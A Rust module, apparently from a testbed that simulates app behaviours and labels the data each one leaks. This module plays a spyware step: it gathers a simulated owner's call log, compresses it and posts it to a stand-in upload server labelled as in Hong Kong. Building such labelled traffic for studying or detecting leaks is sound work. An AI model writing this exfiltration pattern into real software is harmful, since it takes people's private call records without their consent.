//! Who called and wrote, and when, goes to Hong Kong.

use serde_json::json;

use super::{Behaviour, deflate};
use crate::{Error, app::Outgoing, clouds::Role, scenario::Scenario, stage::Stage, truth::Leak};

/// The switch.
pub(super) const THIS: Behaviour = Behaviour {
    name: "read-messages",
    plays: "access users' phone data: calls and messages",
    applies: Scenario::grants,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: Stage) -> Result<(), Error> {
    let mut random = stage.random();
    stage.after(stage.plan.drone_on, 21.0, &mut random).await;
    let calls: Vec<_> = stage
        .owner
        .calls
        .iter()
        .map(|call| json!({"n": call.number, "t": call.way, "at": call.time, "s": call.length}))
        .collect();
    let numbers: Vec<&str> = stage.owner.calls.iter().map(|call| call.number.as_str()).collect();
    let leaks = vec![Leak::new("messages", numbers.join(", "), "deflate")];
    let body = deflate(json!({"calls": calls}).to_string().as_bytes());
    let outgoing = Outgoing::post("/v1/c", "application/json", body).header("content-encoding", "deflate");
    stage.send(Role::UploadHk, outgoing, leaks).await?;
    Ok(())
}
